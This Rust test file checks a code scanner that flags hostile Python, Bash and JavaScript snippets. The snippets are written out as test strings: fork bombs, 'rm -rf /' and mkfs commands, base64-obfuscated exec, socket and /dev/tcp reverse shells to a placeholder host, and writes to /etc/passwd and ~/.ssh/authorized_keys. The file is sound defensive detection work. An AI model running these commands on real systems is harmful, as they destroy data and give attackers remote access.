//! The scan against a corpus: hostile snippets each caught with the right rule and line, benign ones (numpy,
//! pandas, json, math, an f-string that mentions `rm -rf`, a comment naming `os.system`) not flagged.

use sandkasten_scan::{Finding, Mode, ScanLanguage, ScanPolicy, Verdict, scan};

fn findings(language: ScanLanguage, code: &str) -> Vec<Finding> {
    let policy = ScanPolicy { mode: Mode::Enforce, ..ScanPolicy::default() };
    match scan(language, code, &policy) {
        Ok(report) => report.findings,
        Err(error) => panic!("scan failed: {error}"),
    }
}

/// Asserts that `code` has a finding of `rule` on `line`.
#[track_caller]
fn caught(language: ScanLanguage, code: &str, rule: &str, line: u32) {
    let found = findings(language, code);
    assert!(
        found.iter().any(|f| f.rule == rule && f.line == line),
        "expected {rule} on line {line} in {code:?}, found {found:#?}"
    );
}

use ScanLanguage::{Bash, Javascript, Python};

#[test]
fn bash_fork_bomb_is_caught() {
    caught(Bash, "echo start\n:(){ :|:& };:\n", "fork_bomb", 2);
    caught(Bash, "bomb() { bomb | bomb & }\nbomb\n", "fork_bomb", 1);
}

#[test]
fn python_fork_loop_is_caught() {
    caught(Python, "import os\nwhile True:\n    os.fork()\n", "fork_bomb", 3);
    caught(Python, "from os import fork\nfor _ in iter(int, 1):\n    fork()\n", "fork_bomb", 3);
}

#[test]
fn os_system_rm_rf_root_is_caught() {
    let code = "import os\nos.system('rm -rf /')\n";
    caught(Python, code, "destructive_command", 2);
    caught(Python, code, "process_exec", 2);
    caught(Python, "import subprocess\nsubprocess.run(['rm', '-rf', '/'])\n", "destructive_command", 2);
    caught(Python, "import subprocess as sp\n\nsp.call('rm -fr ~', shell=True)\n", "destructive_command", 3);
}

#[test]
fn bash_rm_rf_root_is_caught() {
    caught(Bash, "cd /tmp\nrm -rf / --no-preserve-root\n", "destructive_command", 2);
    caught(Bash, "rm -r -f /*\n", "destructive_command", 1);
    caught(Bash, "sudo mkfs.ext4 /dev/sda1\n", "destructive_command", 1);
    caught(Bash, "bash -c 'rm -rf ~'\n", "destructive_command", 1);
}

#[test]
fn base64_exec_is_caught() {
    caught(Python, "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "obfuscated_exec", 2);
    caught(Python, "x = 1\neval(compile('1+1', '<s>', 'eval'))\n", "obfuscated_exec", 2);
    caught(Python, "f = getattr(__builtins__, 'ev' + 'al')\n", "obfuscated_exec", 1);
    caught(Bash, "echo cm0gLXJmIC8= | base64 -d | sh\n", "obfuscated_exec", 1);
    caught(Javascript, "eval(Buffer.from('MQ==', 'base64').toString())\n", "obfuscated_exec", 1);
}

#[test]
fn python_reverse_shell_is_caught() {
    let code = "import socket, os, subprocess\n\
                s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n\
                s.connect(('10.0.0.1', 4444))\n\
                os.dup2(s.fileno(), 0)\n\
                os.dup2(s.fileno(), 1)\n\
                subprocess.call(['/bin/sh', '-i'])\n";
    caught(Python, code, "raw_socket", 2);
    caught(Python, code, "reverse_shell", 2);
    caught(Python, code, "fd_redirect", 4);
    caught(Python, code, "process_exec", 6);
}

#[test]
fn bash_dev_tcp_reverse_shell_is_caught() {
    let code = "#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n";
    caught(Bash, code, "raw_socket", 2);
    caught(Bash, code, "reverse_shell", 2);
    caught(Bash, "nc -e /bin/sh 10.0.0.1 4444\n", "reverse_shell", 1);
}

#[test]
fn dunder_import_and_importlib_are_imports() {
    let policy = ScanPolicy::from_toml_str("mode = \"enforce\"\n[python]\ndeny_imports = [\"subprocess\", \"os\"]\n");
    let policy = policy.unwrap_or_else(|e| panic!("{e}"));
    let code =
        "x = 1\n__import__('subprocess').call(['ls'])\nimport importlib\nm = importlib.import_module('os.path')\n";
    let report = scan(Python, code, &policy).unwrap_or_else(|e| panic!("{e}"));
    let denied: Vec<u32> = report.findings.iter().filter(|f| f.rule == "import_denied").map(|f| f.line).collect();
    assert_eq!(denied, [2, 4], "{:#?}", report.findings);
    assert_eq!(report.verdict, Verdict::Block);
    // The call through `__import__` is still a process call.
    assert!(report.findings.iter().any(|f| f.rule == "process_exec" && f.line == 2), "{:#?}", report.findings);
}

#[test]
fn node_child_process_is_caught() {
    caught(Javascript, "const cp = require('child_process');\ncp.execSync('rm -rf /');\n", "destructive_command", 2);
    caught(Javascript, "const { exec } = require('node:child_process');\nexec('ls');\n", "process_exec", 2);
    caught(
        Javascript,
        "import { spawn as s } from 'child_process';\ns('rm', ['-rf', '/']);\n",
        "destructive_command",
        2,
    );
    caught(Javascript, "require('child_process').exec(`id`)\n", "process_exec", 1);
    caught(Javascript, "const net = require('net');\nconst c = new net.Socket();\n", "raw_socket", 2);
    caught(Javascript, "new Function('return 1')()\n", "dynamic_eval", 1);
    caught(Javascript, "const fs = require('fs');\nfs.writeFileSync('/etc/passwd', 'x');\n", "sensitive_path_write", 2);
}

#[test]
fn dynamic_imports_are_their_own_finding() {
    caught(Python, "name = 'o' + 's'\nm = __import__(name)\n", "dynamic_import", 2);
    caught(Python, "import importlib\nimportlib.import_module(f'{x}')\n", "dynamic_import", 2);
    caught(Javascript, "const m = require(name);\n", "dynamic_import", 1);
    caught(Javascript, "\nimport('x' + y);\n", "dynamic_import", 2);
}

#[test]
fn sensitive_path_writes_are_caught() {
    caught(Python, "with open('/etc/passwd', 'a') as f:\n    f.write('x')\n", "sensitive_path_write", 1);
    caught(Python, "import os\nos.remove('/etc/hosts')\n", "sensitive_path_write", 2);
    caught(
        Python,
        "from pathlib import Path\nPath('~/.ssh/authorized_keys').write_text('k')\n",
        "sensitive_path_write",
        2,
    );
    caught(Bash, "echo x >> ~/.ssh/authorized_keys\n", "sensitive_path_write", 1);
    caught(Bash, "echo 1 > /proc/sys/kernel/panic\n", "sensitive_path_write", 1);
}

#[test]
fn python_eval_of_computed_code_is_caught() {
    caught(Python, "code = input()\nexec(code)\n", "dynamic_eval", 2);
}

#[test]
fn columns_count_characters_from_one() {
    let found = findings(Python, "import os\nx = 'ü'; os.system('ls')\n");
    let exec = found.iter().find(|f| f.rule == "process_exec");
    assert_eq!(exec.map(|f| (f.line, f.column)), Some((2, 10)), "{found:#?}");
}

#[test]
fn benign_python_is_not_flagged() {
    let code = r#"
import json
import math
import numpy as np
import pandas as pd
from collections import Counter
# os.system('rm -rf /') would be bad; we never call it
data = json.loads('{"a": [1, 2, 3]}')
frame = pd.DataFrame({"x": np.arange(10)})
print(math.sqrt(frame["x"].sum()), Counter("hello"))
x = "tmp"
print(f"never run rm -rf / {x}")
with open("/tmp/out.txt", "w") as f:
    f.write("ok")
with open("/etc/hostname") as f:
    print(f.read())
"#;
    assert_eq!(findings(Python, code), []);
}

#[test]
fn benign_javascript_is_not_flagged() {
    let code = "const fs = require('fs');\nimport path from 'node:path';\n// child_process.exec('rm -rf /')\n\
                const text = `rm -rf / is dangerous`;\nfs.writeFileSync('/tmp/x.json', JSON.stringify({a: 1}));\n\
                console.log(path.join('a', 'b'), Math.max(1, 2));\n";
    assert_eq!(findings(Javascript, code), []);
}

#[test]
fn benign_bash_is_not_flagged() {
    let code = "set -euo pipefail\nmkdir -p /tmp/work && cd /tmp/work\necho 'rm -rf /' > notes.txt\n\
                rm -rf /tmp/work/build\nls -la | grep x > /dev/null\nfor i in 1 2 3; do echo $i; done\n";
    assert_eq!(findings(Bash, code), []);
}
